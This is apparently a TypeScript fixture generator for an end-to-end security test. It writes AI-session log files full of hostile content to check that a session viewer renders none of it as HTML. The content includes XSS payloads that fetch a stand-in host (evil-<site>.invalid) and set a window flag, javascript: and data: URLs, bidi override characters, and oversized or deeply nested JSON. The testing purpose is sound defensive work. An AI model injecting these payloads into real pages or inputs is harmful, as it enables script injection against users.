/**
 * A workspace of hostile session files for test/e2e/hostile.e2e.test.ts: markup, script URLs, SVG
 * payloads, bidi controls, control characters, a 1 MB line and deeply nested JSON in every field
 * the app renders. Every payload that ever ran would add its site to `window.__pwned` and fetch
 * `http://evil-<site>.invalid/`, so the test can tell which one ran and where.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { safeKey } from '../../src/core/nanobot/keys';

/** The flag a payload sets and the request it makes if it ever runs (site: letters and digits). */
export function runs(site: string): string {
  return `window.__pwned=(window.__pwned||'')+'${site};';fetch('http://evil-${site}.invalid/')`;
}

/** Markup and URL payloads tagged with `site`; each is inert text unless something renders it as HTML. */
export function payloads(site: string): string[] {
  const js = runs(site);
  return [
    `<script>${js}</script>`,
    `<img src="http://evil-${site}.invalid/i.png" onerror="${js}">`,
    `<svg onload="${js}"><circle r="9"/></svg>`,
    `<svg><script>${js}</script></svg>`,
    `<a href="javascript:${js}">click me</a>`,
    `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    `[click me](javascript:${js}) ![x](http://evil-${site}.invalid/md.png)`,
    `<a href="data:text/html,<script>${js}</script>">data link</a> data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `<object data="http://evil-${site}.invalid/o"></object><embed src="http://evil-${site}.invalid/e">`,
    `<style>@import url(http://evil-${site}.invalid/c.css);</style><link rel="stylesheet" href="http://evil-${site}.invalid/l.css">`,
    `"><img src=x onerror="${js}"><meta http-equiv="refresh" content="0;url=http://evil-${site}.invalid/">`,
    `<details open ontoggle="${js}"><summary>x</summary></details><body onload="${js}">`,
  ];
}

/** One hostile string per site: every payload joined, as a model might echo them back. */
export function hostile(site: string): string {
  return payloads(site).join('\n');
}

/** Bidi controls, zero-width and control characters, and a word too long for any line. */
export const RLO = '\u202e';
export const BIDI = `RLO${RLO}override LRE\u202aembed RLE\u202bembed LRI\u2066iso RLI\u2067iso FSI\u2068iso ALM\u061c PDF\u202c`;
export const INVISIBLE = `zero\u200bwidth\u200c\u200d\u2060\ufeffjoin LRM\u200e RLM\u200f NUL\u0000 BEL\u0007 ESC\u001b[31m DEL\u007f C1\u0085\u009b`;
export const LONG_WORD = 'W'.repeat(6000);
/** Isolate initiators left open (LRI, RLI, FSI) and an override: they defeat plain CSS isolation. */
export const OPEN = '\u2066\u2067\u2068' + RLO;

/** nanobot's json.dumps(ensure_ascii=False) layout (", " and ": "), enough for these fixtures. */
export function dumps(v: unknown): string {
  if (Array.isArray(v)) return `[${v.map(dumps).join(', ')}]`;
  if (v !== null && typeof v === 'object') return `{${Object.entries(v).map(([k, x]) => `${JSON.stringify(k)}: ${dumps(x)}`).join(', ')}}`;
  return JSON.stringify(v);
}

function meta(key: string, title: string | null, extra: Record<string, unknown> = {}): string {
  const metadata = title === null ? extra : { title, ...extra };
  return dumps({ _type: 'metadata', key, created_at: '2026-06-01T10:00:00.000001', updated_at: '2026-06-01T10:30:00.000001', metadata, last_consolidated: 0 });
}

let clock = 0;
function ts(): string {
  clock += 1;
  return `2026-06-01T10:${String(Math.floor(clock / 60) % 60).padStart(2, '0')}:${String(clock % 60).padStart(2, '0')}.000001`;
}

/** Nested lists `depth` deep around a string (valid JSON text). */
export function deepList(depth: number): string {
  return '['.repeat(depth) + '"bottom <script>' + runs('deep') + '</script>"' + ']'.repeat(depth);
}

export interface HostileWorkspace {
  /** The workspace folder (holds sessions/). */
  ws: string;
  sessions: string;
  /** File names, by role in the test. */
  files: { payloads: string; bidi: string; big: string; key: string };
  keys: { payloads: string; bidi: string; big: string; key: string };
  /** The exact lines of the big file (as written, without line ends). */
  bigLines: string[];
  /** Index in bigLines of the corrupt, 1 MB and deep lines. */
  bigIndex: { corrupt: number; corruptNul: number; mb: number; deep900: number; deep5000: number };
}

/** Write the hostile workspace into a fresh temp folder. */
export function hostileWorkspace(): HostileWorkspace {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'lens-hostile-'));
  const ws = path.join(base, 'ws');
  const sessions = path.join(ws, 'sessions');
  fs.mkdirSync(sessions, { recursive: true });
  const write = (file: string, lines: string[]) => fs.writeFileSync(path.join(sessions, file), lines.map((l) => l + '\n').join(''));

  // 1. Payloads in every message field the Conversation, Replay and File tabs render.
  const kP = 'cli:payloads';
  write('cli_payloads.jsonl', [
    meta(kP, `<script>${runs('title')}</script><img src=x onerror="${runs('title2')}">`, { [`<svg onload="${runs('metakey')}">`]: hostile('metaval'), _last_summary: { text: hostile('summary'), last_active: '2026-06-01T10:00:00' } }),
    dumps({ role: 'user', content: hostile('user'), media: [`/tmp/<img src=x onerror="${runs('media')}">.png`, `javascript:${runs('media2')}`], sender_id: `<b onmouseover="${runs('sender')}">`, timestamp: ts() }),
    dumps({
      role: 'assistant',
      content: '',
      reasoning_content: hostile('reasoning'),
      thinking_blocks: [{ type: 'thinking', thinking: hostile('thinking'), signature: `<svg onload="${runs('sig')}">` }],
      tool_calls: [
        { id: `call_<img src=x onerror="${runs('callid')}">`, type: 'function', function: { name: `<script>${runs('toolname')}</script>`, arguments: dumps({ path: hostile('args'), url: `javascript:${runs('argurl')}` }) } },
        { id: 'call_obj', type: 'function', function: { name: 'exec', arguments: { command: hostile('argobj') } } },
      ],
      timestamp: ts(),
    }),
    dumps({ role: 'tool', tool_call_id: `call_<img src=x onerror="${runs('callid')}">`, name: `<script>${runs('toolname')}</script>`, content: hostile('tool'), timestamp: ts() }),
    dumps({ role: 'tool', tool_call_id: 'call_obj', name: 'exec', content: [{ type: 'text', text: hostile('toolpart') }], timestamp: ts() }),
    dumps({
      role: 'user',
      content: [
        { type: 'text', text: hostile('part') },
        { type: 'image_url', image_url: { url: `javascript:${runs('imgurl')}` } },
        { type: 'image_url', image_url: { url: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${runs('dataurl')}"/>` } },
        { type: `<script>${runs('parttype')}</script>`, text: 'odd block' },
      ],
      timestamp: ts(),
    }),
    dumps({ role: 'assistant', content: hostile('answer'), [`<img src=x onerror="${runs('flagkey')}">`]: `<svg onload="${runs('flagval')}">`, _channel_delivery: true, timestamp: `<script>${runs('time')}</script>` }),
    dumps({ role: `<script>${runs('role')}</script>`, content: 'a message with a hostile role', name: `<img src=x onerror="${runs('name')}">`, timestamp: ts() }),
    dumps({ role: 'user', content: 'last question <script>' + runs('last') + '</script>', timestamp: ts() }),
    dumps({ role: 'assistant', content: 'plain answer', timestamp: ts() }),
  ]);

  // 2. Bidi controls, invisible and control characters, an unbreakable word.
  const kB = `cli:bidi${OPEN}lrt`;
  // Chromium's directory listing hides names with bidi or invisible characters (and < >), so the file name stays plain.
  write('cli_bidi.jsonl', [
    meta(kB, `${OPEN}eltit desrever ${INVISIBLE}`, { [`${OPEN}atem`]: `${OPEN}eulav` }),
    dumps({ role: 'user', content: `before ${BIDI} after\n${INVISIBLE}\n${LONG_WORD}`, timestamp: ts() }),
    dumps({ role: 'assistant', content: `${RLO}txet desrever`, tool_calls: [{ id: `call${OPEN}1`, type: 'function', function: { name: `tool${OPEN}eman`, arguments: dumps({ q: `${OPEN}gra` }) } }], timestamp: ts() }),
    dumps({ role: 'tool', tool_call_id: `call${OPEN}1`, name: `tool${OPEN}eman`, content: `${RLO}tluser ${LONG_WORD}`, timestamp: ts() }),
    dumps({ role: 'assistant', content: `done ${RLO}`, reasoning_content: `${RLO}gninosaer`, media: [`/m/${OPEN}gpj.exe`], [`${OPEN}yek`]: `${OPEN}eulav`, name: `${OPEN}eman`, timestamp: ts() }),
    // Too deep for nanobot (RecursionError): it loads nothing, and the banner names the key mid-sentence.
    `{"role": "user", "content": ${deepList(1000)}}`,
  ]);

  // 3. Corrupt lines, a 1 MB line, JSON 900 levels deep (parsed) and 5,000 levels deep (a RecursionError: corrupt).
  const kG = 'cli:big';
  const mbText = `<script>${runs('mbhead')}</script>` + 'x'.repeat(1024 * 1024) + `<img src=x onerror="${runs('mbtail')}">`;
  const bigLines = [
    meta(kG, 'Big and broken'),
    dumps({ role: 'user', content: 'start of the big session', timestamp: ts() }),
    `{"role": "user", "content": "<script>${runs('corrupt')}</script> not closed`,
    `{"role": "user", "content": "raw NUL \u0000 and ESC \u001b in a string <img src=x onerror=${runs('corruptnul')}>"}`,
    dumps({ role: 'assistant', content: mbText, timestamp: ts() }),
    dumps({ role: 'user', content: [JSON.parse(deepList(898))], timestamp: ts() }),
    `{"role": "user", "content": ${deepList(5000)}, "timestamp": "2026-06-01T11:00:00"}`,
    dumps({ role: 'user', content: 'after the deep lines', timestamp: ts() }),
    dumps({ role: 'assistant', content: 'the end of the big session', timestamp: ts() }),
  ];
  write('cli_big.jsonl', bigLines);

  // 4. A hostile key, and the file name nanobot derives from it (safe_key: < > : " / \ | ? * become _).
  const kK = `web:<img src=x onerror="${runs('key')}">%zz'&amp;`;
  const fK = `${safeKey(kK)}.jsonl`;
  write(fK, [
    meta(kK, null),
    dumps({ role: 'user', content: [{ type: 'text', text: `<iframe srcdoc="<script>parent.${runs('keyfirst')}</script>"></iframe> first message` }], timestamp: ts() }),
    dumps({ role: 'assistant', content: 'answer in the hostile-key session', timestamp: ts() }),
  ]);

  return {
    ws,
    sessions,
    files: { payloads: 'cli_payloads.jsonl', bidi: 'cli_bidi.jsonl', big: 'cli_big.jsonl', key: fK },
    keys: { payloads: kP, bidi: kB, big: kG, key: kK },
    bigLines,
    bigIndex: { corrupt: 2, corruptNul: 3, mb: 4, deep900: 5, deep5000: 6 },
  };
}
